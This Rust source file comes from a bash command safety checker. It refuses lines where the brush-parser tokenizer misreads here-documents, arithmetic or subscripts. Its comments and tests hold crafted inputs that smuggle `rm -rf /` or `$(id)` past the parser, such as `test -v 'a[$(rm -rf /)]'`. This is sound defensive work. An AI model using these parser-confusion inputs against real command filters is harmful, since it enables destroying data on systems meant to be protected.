            (Quote::None, b'<') if next == Some(b'<') && open.subscripts > 0 => {
                return Err(TokenizerHazard::Subscript);
            }
            // bash reads `<<` inside arithmetic as a shift. brush-parser 0.4's tokenizer keeps one
            // flag for "in arithmetic" that the first `))` or nested `$((…))`/`$[…]` inside
            // clears, after which it reads `<<` as a here-document operator and swallows the
            // lines after it as the body: `(( ((1)) << x ))`, a newline, `rm -rf /`, a newline,
            // `x` hid the `rm`. Such a shift is refused, as is a here-document in a substitution
            // inside arithmetic (which the tokenizer reads as a shift).
            (Quote::None, b'<') if next == Some(b'<') && open.arithmetic > 0 => {
                if !arithmetic || arithmetic_nested || !open.in_arithmetic {
                    return Err(TokenizerHazard::Arithmetic);
                }
                shifted = true;
                i = i.saturating_add(1);
            }
            (Quote::None, b'<') if next == Some(b'<') && open.in_arithmetic => {
                return Err(TokenizerHazard::ArithmeticLeft);
            }
            (Quote::None, b'<') if next == Some(b'<') => {
                let mut at = i.saturating_add(2);
                if bytes.get(at) == Some(&b'<') {
                    i = at; // a here-string `<<<`
                } else {
                    let strip_tabs = bytes.get(at) == Some(&b'-');
                    if strip_tabs {
                        at = at.saturating_add(1);
                    }
                    while matches!(bytes.get(at), Some(b' ' | b'\t')) {
                        at = at.saturating_add(1);
                    }
                    if !plain_heredoc_delimiter(bytes, at) {
                        return Err(TokenizerHazard::UnusualDelimiter);
                    }
                    if open.braces > 0 {
                        return Err(TokenizerHazard::InParameterExpansion);
                    }
                    let (delimiter, end) = heredoc_delimiter(bytes, at);
                    // Inside a substitution, brush-parser's tokenizer queues what follows the
                    // delimiter on its line until after the body, and a quote in the body
                    // then cost a command: `"$(: <<-\E EOF && cmd` + newline + `'` + newline
                    // + `E` + newline + `)"'q'` lost `cmd` and was allowed (found by the Python
                    // grammar harness). The usual `"$(cat <<'EOF'` + newline + … has nothing
                    // after the delimiter.
                    if !open.readers.is_empty() {
                        let rest = bytes.get(end..).unwrap_or_default();
                        let line = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
                        if rest
                            .get(..line)
                            .is_some_and(|l| l.iter().any(|&b| !matches!(b, b' ' | b'\t')))
                        {
                            return Err(TokenizerHazard::PendingSubstitution);
                        }
                    }
                    pending.push((delimiter, strip_tabs, open.len()));
                    if open.readers.is_empty() {
                        heredocs = heredocs.saturating_add(1);
                    }
                    pending_depth = pending_depth.max(open.len());
                    inside |= !open.is_empty();
                    i = end.saturating_sub(1);
                }
            }
            (Quote::None, b'\n') if !pending.is_empty() => {
                // Skip each body up to its delimiter line.
                let mut line_start = i.saturating_add(1);
                pending_depth = 0;
                for (delimiter, strip_tabs, _) in pending.drain(..) {
                    loop {
                        let Some(rest) = bytes.get(line_start..).filter(|r| !r.is_empty()) else {
                            // An unterminated body: the line is refused anyway.
                            return match inside {
                                true => Err(TokenizerHazard::UnclosedExpansion),
                                false => Ok(BashReading { heredocs, comments }),
                            };
                        };
                        let len = rest.iter().position(|&b| b == b'\n').unwrap_or(rest.len());
                        let mut line = rest.get(..len).unwrap_or_default();
                        if strip_tabs {
                            while let [b'\t', tail @ ..] = line {
                                line = tail;
                            }
                        }
                        line_start = line_start.saturating_add(len).saturating_add(1);
                        if line == delimiter.as_slice() {
                            break;
                        }
                    }
                }
                i = line_start.saturating_sub(1);
            }
            (Quote::None, b'<' | b'>') => redirect = Some(i),
            _ => {}
        }
        i = i.saturating_add(1);
    }
    match inside && !open.is_empty() {
        true => Err(TokenizerHazard::UnclosedExpansion),
        false => Ok(BashReading { heredocs, comments }),
    }
}

/// The first variable arithmetic text `expr` reads, other than those in `numeric`: a name,
/// or a `$` parameter other than `$#`, `$?`, `$$`, `$!` and `$-`. The target of a plain
/// assignment (`x = 1`) is not read. Numbers in any base (`0x1f`, `2#101`, `64#zZ`) are not
/// names. Text inside quotes and substitutions counts too (`$(( $(cat f) ))` evaluates the
/// file's content).
/// The text `echo` or `printf` prints when every word is known and no option or format
/// directive changes it: `echo a b` prints `a b` and a newline, `printf 'text'` its text,
/// `printf '%s\n' a b` each word on a line.
fn printed_text(argv: &[Word]) -> Option<String> {
    let (name, args) = argv.split_first()?;
    if argv.iter().any(|w| w.opaque || w.glob) {
        return None;
    }
    match super::basename(&name.text) {
        "echo" if !args.iter().any(|a| a.text.starts_with('-')) => {
            let mut text = args
                .iter()
                .map(|a| a.text.as_str())
                .collect::<Vec<_>>()
                .join(" ");
            text.push('\n');
            Some(text)
        }
        "printf" => match args.split_first() {
            Some((format, rest)) if format.text == "%s\\n" => Some(
                rest.iter()
                    .map(|a| format!("{}\n", a.text))
                    .collect::<String>(),
            ),
            Some((format, []))
                if !format.text.contains(['%', '\\']) && !format.text.starts_with('-') =>
            {
                Some(format.text.clone())
            }
            _ => None,
        },
        _ => None,
    }
}

/// The names `${NAME=…}` and `${NAME:=…}` in `text` assign.
pub(crate) fn assigned_by_expansion(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices("${").filter_map(move |(at, _)| {
        let rest = text.get(at + 2..)?;
        let len = rest
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let name = rest.get(..len)?;
        let after = rest.get(len..)?;
        (!name.is_empty() && (after.starts_with('=') || after.starts_with(":="))).then_some(name)
    })
}

/// The variables an arithmetic expression assigns: a name (with an optional subscript)
/// followed by `=` (not `==`), an operator-assignment (`+=`, `<<=`, …), or `++`/`--` on
/// either side.
pub(crate) fn arithmetic_assignments(expr: &str) -> Vec<&str> {
    let bytes = expr.as_bytes();
    let mut names = Vec::new();
    let mut i = 0usize;
    while let Some(&b) = bytes.get(i) {
        let starts_name = (b.is_ascii_alphabetic() || b == b'_')
            && !i
                .checked_sub(1)
                .and_then(|p| bytes.get(p))
                .is_some_and(|&p| p.is_ascii_alphanumeric() || p == b'_' || p == b'$' || p == b'#');
        if !starts_name {
            i += 1;
            continue;
        }
        let start = i;
        while bytes
            .get(i)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        {
            i += 1;
        }
        let name = expr.get(start..i).unwrap_or("");
        let before = expr.get(..start).unwrap_or("").trim_end();
        let mut j = i;
        // A subscript: `a[i]=…`.
        if bytes.get(j) == Some(&b'[') {
            let mut level = 0usize;
            while let Some(&c) = bytes.get(j) {
                j += 1;
                match c {
                    b'[' => level += 1,
                    b']' => {
                        level = level.saturating_sub(1);
                        if level == 0 {
                            break;
                        }
                    }
                    _ => {}
                }
            }
        }
        let after = expr.get(j..).unwrap_or("").trim_start();
        let assigns = (after.starts_with('=') && !after.starts_with("=="))
            || [
                "+=", "-=", "*=", "/=", "%=", "&=", "^=", "|=", "<<=", ">>=", "++", "--",
            ]
            .iter()
            .any(|op| after.starts_with(op))
            || before.ends_with("++")
            || before.ends_with("--");
        if assigns && !name.is_empty() {
            names.push(name);
        }
    }
    names
}

pub(crate) fn arithmetic_variable(expr: &str, numeric: &[String]) -> Option<String> {
    let bytes = expr.as_bytes();
    let name_end = |from: usize| {
        bytes
            .get(from..)
            .unwrap_or_default()
            .iter()
            .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
            .map_or(bytes.len(), |len| from.saturating_add(len))
    };
    let mut i = 0usize;
    while let Some(&byte) = bytes.get(i) {
        match byte {
            b'0'..=b'9' => {
                let rest = bytes.get(i..).unwrap_or_default();
                let len = rest
                    .iter()
                    .position(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'@' | b'#')))
                    .unwrap_or(rest.len());
                i = i.saturating_add(len);
            }
            b'A'..=b'Z' | b'a'..=b'z' | b'_' => {
                let end = name_end(i);
                let name = expr.get(i..end).unwrap_or_default();
                let mut after = end;
                while matches!(bytes.get(after), Some(b' ' | b'\t' | b'\n')) {
                    after = after.saturating_add(1);
                }
                let assigned = bytes.get(after) == Some(&b'=')
                    && bytes.get(after.saturating_add(1)) != Some(&b'=');
                if !assigned && !numeric.iter().any(|n| n == name) {
                    return Some(name.to_owned());
                }
                i = end;
            }
            b'$' => match bytes.get(i.saturating_add(1)) {
                Some(b'#' | b'?' | b'$' | b'!' | b'-') => i = i.saturating_add(2),
                // `${#x}` and `${#x[@]}` are lengths.
                Some(b'{')
                    if bytes.get(i.saturating_add(2)) == Some(&b'#')
                        && let Some(len) = length_expansion(bytes.get(i..).unwrap_or_default()) =>
                {
                    i = i.saturating_add(len);
                }
                Some(b'{') => {
                    let start = i.saturating_add(2);
                    let end = name_end(start);
                    let name = expr.get(start..end).unwrap_or_default();
                    if bytes.get(end) == Some(&b'}') && numeric.iter().any(|n| n == name) {
                        i = end.saturating_add(1);
                    } else {
                        let shown = expr.get(i..end.saturating_add(1)).unwrap_or("${");
                        return Some(shown.to_owned());
                    }
                }
                Some(b'A'..=b'Z' | b'a'..=b'z' | b'_') => {
                    let start = i.saturating_add(1);
                    let end = name_end(start);
                    let name = expr.get(start..end).unwrap_or_default();
                    if !numeric.iter().any(|n| n == name) {
                        return Some(format!("${name}"));
                    }
                    i = end;
                }
                Some(b'0'..=b'9' | b'@' | b'*') => {
                    return Some(expr.get(i..i.saturating_add(2)).unwrap_or("$").to_owned());
                }
                _ => i = i.saturating_add(1),
            },
            _ => i = i.saturating_add(1),
        }
    }
    None
}

/// The length of `${#name}`, `${#name[@]}` or `${#name[*]}` at the start of `bytes`.
fn length_expansion(bytes: &[u8]) -> Option<usize> {
    let rest = bytes.strip_prefix(b"${#")?;
    let name = rest
        .iter()
        .position(|&b| !(b.is_ascii_alphanumeric() || b == b'_'))
        .unwrap_or(rest.len());
    if name == 0 {
        return None;
    }
    let tail = rest.get(name..)?;
    let len = [&b"}"[..], b"[@]}", b"[*]}"]
        .iter()
        .find(|t| tail.starts_with(t))?
        .len();
    Some(3usize.saturating_add(name).saturating_add(len))
}

/// The names arithmetic text `init` sets to integer literals (`i=0`, `i = 0, j=10`).
fn integer_assignments(init: &str) -> Vec<String> {
    init.split(',')
        .filter_map(|part| {
            let (name, value) = part.split_once('=')?;
            let (name, value) = (name.trim(), value.trim());
            let valid_name = name
                .bytes()
                .next()
                .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_')
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_');
            let integer = !value.is_empty() && value.bytes().all(|b| b.is_ascii_digit());
            (valid_name && integer).then(|| name.to_owned())
        })
        .collect()
}

/// Whether script text `body` may set variable `name`: it holds `name` as a word of its own
/// (`read i`, `declare i`, `printf -v i`, `(( i = x ))`), or `name=`, `name+=` or `name[`.
fn may_assign(body: &str, name: &str) -> bool {
    let bytes = body.as_bytes();
    body.match_indices(name).any(|(at, _)| {
        let before = at.checked_sub(1).and_then(|j| bytes.get(j)).copied();
        let after = bytes.get(at.saturating_add(name.len())).copied();
        let name_char = |b: Option<u8>| b.is_some_and(|b| b.is_ascii_alphanumeric() || b == b'_');
        if name_char(before) || name_char(after) {
            return false;
        }
        let word_start = before.is_none_or(|b| b.is_ascii_whitespace() || b == b';');
        let word_end = after.is_none_or(|b| b.is_ascii_whitespace() || b == b';');
        (word_start && word_end) || matches!(after, Some(b'=' | b'[' | b'+'))
    })
}

/// Whether `text` holds `name[…]` whose subscript holds `$(`, `${` or backquotes. bash
/// expands such a subscript again, running the commands in it, when a builtin takes the text
/// as a variable name (`test -v`, `[[ -v … ]]`, `printf -v`, `read`, `declare`, `typeset`,
/// `declare -n`) or evaluates it as arithmetic (`let`, `[[ … -eq … ]]`, `$((x))` with the
/// text in `x`): `test -v 'a[$(rm -rf /)]'` runs `rm` from a single-quoted word.
fn evaluable_subscript(text: &str) -> bool {
    let bytes = text.as_bytes();
    // The first `[` after a name character: any later one's subscript is inside its rest.
    let Some(open) = bytes.windows(2).position(
        |pair| matches!(pair, [before, b'['] if before.is_ascii_alphanumeric() || *before == b'_'),
    ) else {
        return false;
    };
    let rest = bytes.get(open.saturating_add(2)..).unwrap_or_default();
    // A `$(` or `${`, or a pair of backquotes, with a `]` after it: a subscript that runs
    // something (`'a[`'` alone is text bash would never evaluate).
    let dollar = rest
        .windows(2)
        .position(|pair| matches!(pair, [b'$', b'(' | b'{']));
    let backquotes = rest.iter().position(|&b| b == b'`').and_then(|first| {
        let after = first.saturating_add(1);
        let second = rest.get(after..)?.iter().position(|&b| b == b'`')?;
        Some(after.saturating_add(second))
    });
    [dollar, backquotes]
        .into_iter()
        .flatten()
        .any(|at| rest.get(at..).is_some_and(|tail| tail.contains(&b']')))
}

/// Whether `text` holds `name[SUB]` whose subscript names something: a variable (`a[x]`,
/// `a[i+1]`, `a[$i]`), which arithmetic evaluates as an expression in turn, or anything else
/// but a plain number or `@`/`*` (`a[0]`, `a[-1]`, `a[@]` are fine).
fn subscript_reads_variable(text: &str) -> bool {
    let bytes = text.as_bytes();
    let mut at = 0;
    while let Some(open) = bytes.get(at..).and_then(|rest| {
        rest.windows(2).position(|pair| {
            matches!(pair, [before, b'['] if before.is_ascii_alphanumeric() || *before == b'_')
        })
    }) {
        let start = at + open + 2;
        let Some(close) = bytes
            .get(start..)
            .and_then(|rest| rest.iter().position(|&b| b == b']'))
        else {
            return false;
        };
        let subscript = bytes.get(start..start + close).unwrap_or_default();
        if subscript
            .iter()
            .any(|b| b.is_ascii_alphabetic() || matches!(b, b'_' | b'$' | b'`'))
        {
            return true;
        }
        at = start + close;
    }
    false
}

/// The `{NAME}` word of a redirection that stores a new file descriptor in `NAME`
/// (`exec {fd}>file`, `{d}>/dev/null`), which bash reads as part of the redirection and
/// brush-parser and the fast path as an argument: `sed {d}>/dev/null 'e rm -rf /'` runs
/// `sed 'e rm -rf /'` (found by probing, session 7). Such lines are refused; the scan does
/// not follow quotes, which only refuses more.
fn varname_redirection(src: &str) -> Option<&str> {
    let bytes = src.as_bytes();
    bytes.iter().enumerate().find_map(|(i, &b)| {
        if b != b'{' || !at_word_start(bytes, i) {
            return None;
        }
        let rest = bytes.get(i + 1..)?;
        let name = rest
            .iter()
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
            .count();
        let first = rest.first()?;
        if name == 0 || first.is_ascii_digit() {
            return None;
        }
        let mut end = name;
        if rest.get(end) == Some(&b'[') {
            end += rest.get(end..)?.iter().position(|&b| b == b']')? + 1;
        }
        (rest.get(end) == Some(&b'}') && matches!(rest.get(end + 1), Some(b'<' | b'>')))
            .then(|| src.get(i..i + end + 3))
            .flatten()
    })
}

/// What [`tokenizer_hazard`] reads as bash would, outside substitutions and backquotes
/// (brush-parser parses the text of those again, and the walk checks each on its own).
#[derive(Debug, PartialEq, Eq)]
struct BashReading {
    /// How many here-documents there are.
    heredocs: usize,
    /// The byte offset of each comment's `#`, in order.
    comments: Vec<usize>,
}

/// The byte offset of each comment's `#` brush-parser's tokenizer read in `tokens` of
/// `src`, in order (outside substitutions, whose text is one word token). A comment is part
/// of the newline token that ends it, whose span starts at the comment or at blanks before
/// it. Spans count characters, not bytes.
fn tokenized_comments(src: &str, tokens: &[brush_parser::Token]) -> Vec<usize> {
    // Tokens after a here-document operator come after its body, out of source order.
    let mut spans: Vec<(usize, usize)> = tokens
        .iter()
        .filter_map(|token| match token {
            brush_parser::Token::Operator(op, span)
                if op == "\n" && span.end.index.saturating_sub(span.start.index) >= 2 =>
            {
                Some((span.start.index, span.end.index))
            }
            _ => None,
        })
        .collect();
    spans.sort_unstable();
    let mut comments = Vec::new();
    let mut chars = src.char_indices().enumerate().peekable();
    for (start, end) in spans {
        // Skip to the span's first character, then past blanks.
        while chars.next_if(|&(n, _)| n < start).is_some() {}
        while chars
            .next_if(|&(n, (_, c))| n < end && matches!(c, ' ' | '\t'))
            .is_some()
        {}
        if let Some(&(n, (at, '#'))) = chars.peek()
            && n < end
        {
            comments.push(at);
        }
    }
    comments
}

/// How many here-documents brush-parser's tokenizer read in `tokens` (outside
/// substitutions, whose text is one word token). It queues each as the operator, the
/// delimiter, the body and the delimiter again, unquoted: that last token is made up, and
/// its span in the source is empty, unlike that of any word read from the source.
fn tokenized_heredocs(tokens: &[brush_parser::Token]) -> usize {
    tokens
        .iter()
        .filter(|t| {
            matches!(t, brush_parser::Token::Word(text, span)
                if !text.is_empty() && span.start.index == span.end.index)
        })
        .count()
}

/// Whether the here-document delimiter starting at `at` is a plain word: at least one byte of
/// ASCII letters, digits and `_.,:=%^/~-`, where any part may be single- or double-quoted
/// and any of those bytes escaped with a backslash, ending at a blank, newline, `;`, `&`, `|`, `<`,
/// `>`, `)` or the end of input.
fn plain_heredoc_delimiter(bytes: &[u8], mut at: usize) -> bool {
    fn plain(byte: u8) -> bool {
        byte.is_ascii_alphanumeric() || b"_.,:=%^/~-".contains(&byte)
    }
    let mut quote: Option<u8> = None;
    let mut len = 0usize;
    loop {
        let byte = bytes.get(at).copied();
        match (quote, byte) {
            // An unterminated quote.
            (Some(_), None) => return false,
            (Some(q), Some(b)) if b == q => quote = None,
            (None, Some(b'\'')) | (None, Some(b'"')) => quote = byte,
            (None, Some(b'\\')) => {
                at = at.saturating_add(1);
                if !bytes.get(at).is_some_and(|&b| plain(b)) {
                    return false;
                }
                len = len.saturating_add(1);
            }
            (None, None | Some(b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b')')) => {
                break;
            }
            (_, Some(b)) if plain(b) => len = len.saturating_add(1),
            (_, Some(_)) => return false,
        }
        at = at.saturating_add(1);
    }
    len > 0
}

/// A here-document delimiter starting at `at` after quote removal, and where it ends.
fn heredoc_delimiter(bytes: &[u8], mut at: usize) -> (Vec<u8>, usize) {
    let mut word = Vec::new();
    let mut quote: Option<u8> = None;
    while let Some(&byte) = bytes.get(at) {
        match (quote, byte) {
            (Some(q), b) if b == q => quote = None,
            (Some(_), b) => word.push(b),
            (None, b'\'' | b'"') => quote = Some(byte),
            (None, b'\\') => {
                at = at.saturating_add(1);
                if let Some(&escaped) = bytes.get(at) {
                    word.push(escaped);
                }
            }
            (None, b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')') => break,
            (None, b) => word.push(b),
        }
        at = at.saturating_add(1);
    }
    (word, at)
}

/// Whether an unquoted here-document operator (`<<`, `<<-`; not the here-string `<<<`) is
/// followed, on its own line, by `$(`, `$[`, `${`, `<(`, `>(`, a backquote or a carriage
/// return (in its delimiter or anywhere after it, while the here-document is pending).
/// brush-parser 0.4's tokenizer unwraps a missing character while scanning nested expansions
/// with a here-document pending (`cat <<$(${F}` + newline + body, `x <<EOF … $((…` + newline +
/// body, `<<E ${x}${` + newline + `E`, `$(<<  k)<<$[ `), and loops until memory runs out on
/// `x <<\r; y ` (all found by fuzzing `shell_assess`). Even a `${x}` closed on the line is
/// misread: the tokens inside it go to the pending here-document's queue, so the word becomes
/// `${}` and `x` a word after the body, and in `echo $(printf … <<E ${x}` + newline + body +
/// `)`, the whole substitution's commands vanished (found by the Python grammar harness). A
/// scan before the tokenizer runs that follows quoting (a quoted `<<` is text; a `$(` in
/// double quotes still expands). It also refuses lines bash runs fine (`cat <<EOF >
/// "$(pwd)/x"`, `cat <<EOF >> ${LOG}`), which only fails closed.
fn heredoc_with_pending_substitution(src: &str) -> bool {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let bytes = src.as_bytes();
    let mut quote = Quote::None;
    let mut pending = false;
    let mut i = 0usize;
    while let Some(&byte) = bytes.get(i) {
        let next = bytes.get(i.saturating_add(1)).copied();
        match (&quote, byte) {
            (Quote::Single, b'\'') => quote = Quote::None,
            (Quote::Single, _) => {}
            (_, b'\\') => i = i.saturating_add(1), // the escaped byte is literal
            (Quote::None, b'\'') => quote = Quote::Single,
            (Quote::None, b'"') => quote = Quote::Double,
            (Quote::Double, b'"') => quote = Quote::None,
            (Quote::None, b'\n') => pending = false,
            (Quote::None, b'<') if next == Some(b'<') => {
                if bytes.get(i.saturating_add(2)) == Some(&b'<') {
                    i = i.saturating_add(2); // a here-string `<<<`
                } else {
                    pending = true;
                    i = i.saturating_add(1);
                }
            }
            // A carriage return after the operator: `x <<\r; y ` sends brush-parser's
            // tokenizer into an endless, memory-hungry loop (found by fuzzing).
            (_, b'`' | b'\r') if pending => return true,
            (_, b'$') if pending && matches!(next, Some(b'(' | b'[' | b'{')) => return true,
            // bash parses a process substitution on its own, like `$(…)`: a newline inside
            // it doesn't start the pending body, and a here-document inside gets its body
            // first. brush-parser reads it in line, as the scan in `tokenizer_hazard` does
            // (`: <<E <(: <<F` hid a command after the `)`; found by the Python grammar
            // harness).
            (Quote::None, b'<' | b'>') if pending && next == Some(b'(') => return true,
            _ => {}
        }
        i = i.saturating_add(1);
    }
    false
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "test code fails loudly")]

    use super::*;

    fn brush(src: &str) -> usize {
        let options = super::super::parser_options();
        let tokens = brush_parser::uncached_tokenize_str(src, &options.tokenizer_options());
        tokenized_heredocs(&tokens.unwrap())
    }

    /// The two counts the cross-check compares agree where brush-parser reads
    /// here-documents as bash does.
    #[test]
    fn heredoc_counts_agree_on_ordinary_lines() {
        for (src, count) in [
            ("cat <<E | x\nbody\nE\n", 1),
            ("cat <<E\nE\n", 1),
            ("x <<A <<-'B'\na\nA\n\tb\n\tB\n", 2),
            ("(( 1 << 2 )); echo $((x<<1))\n", 0),
            ("echo $(cat <<F\nf\nF\n) <<G\ng\nG\n", 1),
            ("cat <(cat <<E\nx\nE\n)\n", 1),
            ("git commit -m \"$(cat <<'EOF'\nmsg\nEOF\n)\"\n", 0),
            ("cat <<<x <<E\nE\n", 1),
            ("echo \"\" '' a\n", 0),
        ] {
            assert_eq!(
                tokenizer_hazard(src).map(|r| r.heredocs),
                Ok(count),
                "{src:?}"
            );
            assert_eq!(brush(src), count, "{src:?}");
        }
    }

    fn brush_comments(src: &str) -> Vec<usize> {
        let options = super::super::parser_options();
        let tokens = brush_parser::uncached_tokenize_str(src, &options.tokenizer_options());
        tokenized_comments(src, &tokens.unwrap())
    }

    /// Where comments start, as bash and as brush-parser read them.
    #[test]
    fn comment_places_agree_on_ordinary_lines() {
        for (src, at) in [
            ("ls # list\n", vec![3]),
            ("ls #a\n#b\n  # c\n", vec![3, 6, 11]),
            ("echo a#b 'c #' \"#\" \\# ${x#a} $((2#1))\n", vec![]),
            ("cat <<E # c\nb # not\nE\nx # d\n", vec![8, 24]),
            ("é \"ü\" # ç\n", vec![8]),
            ("case x in #c\nx) :;; esac; a;#b\n", vec![10, 28]),
            ("echo $(a # b\n) `c # d` # e\n", vec![23]),
            ("cat <(a # b\n)\n", vec![8]),
            ("x=(a #b\n)\n", vec![5]),
            ("echo a \\\n b # c\n", vec![12]),
        ] {
            let bash = tokenizer_hazard(src).map(|r| r.comments);
            assert_eq!(bash, Ok(at.clone()), "{src:?}");
            assert_eq!(brush_comments(src), at, "{src:?}");
        }
    }

    /// A subscript's `#` is part of the word for bash and a comment for brush-parser.
    #[test]
    fn comment_places_differ_where_brush_misreads() {
        for src in ["a[1 #]=1 rm -rf /\n", "x a[1 #]=1\nrm -rf /\n"] {
            assert!(!brush_comments(src).is_empty(), "{src:?}");
        }
        // The scan refuses these first; bash reads no comment in them.
        assert_eq!(
            tokenizer_hazard("a[1 #]=1 rm -rf /\n"),
            Err(TokenizerHazard::Subscript)
        );
    }

    /// Stray closers inside arithmetic end brush-parser's arithmetic reading early.
    #[test]
    fn stray_parens_inside_arithmetic_are_refused() {
        for src in [
            "${$[))<<F]\nF\n",
            "echo $[ 1 ) << 2 ]\n",
            "(( 1 ) << 2 ))\n",
        ] {
            assert_eq!(
                tokenizer_hazard(src).map(|r| r.heredocs),
                Err(TokenizerHazard::Arithmetic),
                "{src:?}"
            );
        }
        for src in [
            "echo $(( (1) + 2 ))\n",
            "echo $[ (1) * 2 ]\n",
            "(( (1) ))\n",
        ] {
            assert!(tokenizer_hazard(src).is_ok(), "{src:?}");
        }
    }

    #[test]
    fn arithmetic_assignments_are_found() {
        for (expr, names) in [
            ("x = 5", &["x"][..]),
            ("x == 5", &[]),
            ("PATH=0", &["PATH"]),
            ("a[i+1] += 2, b <<= 1", &["a", "b"]),
            ("i++ + --j", &["i", "j"]),
            ("16#ff + 0x1F + $x", &[]),
            ("y = x < 3", &["y"]),
        ] {
            assert_eq!(arithmetic_assignments(expr), names, "{expr}");
        }
    }

    #[test]
    fn printed_text_is_known_only_without_options_and_directives() {
        let words = |ws: &[&str]| ws.iter().map(|w| Word::literal(*w)).collect::<Vec<_>>();
        assert_eq!(
            printed_text(&words(&["echo", "rm -rf /"])).as_deref(),
            Some("rm -rf /\n")
        );
        assert_eq!(printed_text(&words(&["echo", "-e", "x"])), None);
        assert_eq!(
            printed_text(&words(&["printf", "%s\\n", "a", "b"])).as_deref(),
            Some("a\nb\n")
        );
        assert_eq!(
            printed_text(&words(&["printf", "ls"])).as_deref(),
            Some("ls")
        );
        assert_eq!(printed_text(&words(&["printf", "%d"])), None);
        assert_eq!(
            printed_text(&[Word::literal("echo"), Word::opaque("$x")]),
            None
        );
    }

    #[test]
    fn arithmetic_variables_are_found() {
        let none: &[String] = &[];
        for (expr, found) in [
            ("1 + 2", None),
            ("16#ff + 0x1F + 2#101 + 64#zZ_@", None),
            ("x = 5", None),
            ("x = y", Some("y")),
            ("x == 5", Some("x")),
            ("i += 1", Some("i")),
            ("i++", Some("i")),
            ("$x + 1", Some("$x")),
            ("${x} + 1", Some("${x}")),
            ("$1", Some("$1")),
            ("$# + $? + $$ + $! ", None),
            ("${#a[@]} + ${#s}", None),
            ("${#a[i]}", Some("${#")),
            ("$(cat f) + 1", Some("cat")),
            ("'a[1]'", Some("a")),
        ] {
            assert_eq!(
                arithmetic_variable(expr, none).as_deref(),
                found,
                "{expr:?}"
            );
        }
        let numeric = ["i".to_owned()];
        assert_eq!(arithmetic_variable("i < 3 && ${i} + $i", &numeric), None);
        assert_eq!(arithmetic_variable("i < j", &numeric).as_deref(), Some("j"));
    }

    #[test]
    fn subscripts_that_run_something_are_found() {
        for text in ["a[$(id)]", "a[`id`]", "x=1 a[${x@P}]=2", "b_1[0+$(id)]"] {
            assert!(evaluable_subscript(text), "{text}");
        }
        for text in [
            "a[`",
            "a[$(id)",
            "[$(id)]",
            "a[1] $(id)",
            "a[i]",
            "echo a[x] `y`",
        ] {
            assert!(!evaluable_subscript(text), "{text}");
        }
    }

    #[test]
    fn loop_counters_are_recognised() {
        assert_eq!(integer_assignments("i=0"), ["i"]);
        assert_eq!(integer_assignments(" i = 0 , j=10"), ["i", "j"]);
        assert!(integer_assignments("i=x").is_empty());
        assert!(integer_assignments("i=-1").is_empty());
        assert!(integer_assignments("a[1]=0").is_empty());
        for body in [
            "read i",
            "i=$x",
            "declare i",
            "x; i+=1",
            "printf -v i x",
            "(( i = x ))",
            "a; i[1]=2",
        ] {
            assert!(may_assign(body, "i"), "{body:?}");
        }
        for body in [
            "echo $i",
            "echo ${i}",
            "x=$((i*2))",
            "echo hi",
            "ii=1",
            "echo $xi",
        ] {
            assert!(!may_assign(body, "i"), "{body:?}");
        }
    }

    /// Lines where brush-parser 0.4's tokenizer misreads a `<<` (each hid a command): the
    /// count of here-documents it reads differs from bash's, so the cross-check refuses them
    /// even without the scan's shape-specific checks, which refuse them first.
    #[test]
    fn heredoc_counts_differ_where_brush_misreads() {
        for (src, bash) in [
            // A shift in arithmetic read as a here-document.
            ("(( ((1)) << x ))\nrm -rf /\nx\n", 0),
            ("for (( i=((0)); i << x; )); do :; done\nrm -rf /\nx\n", 0),
            ("x=$(( $((1)) << x ))\nrm -rf /\nx\n", 0),
            // A here-document read as a shift.
            (": $( ((1)) ) <<E | rm -rf /\nE\n", 1),
            (": > >(( cat <<E | rm -rf /\nE\n) )\n", 1),
        ] {
            assert_ne!(brush(src), bash, "{src:?}");
        }
    }
}
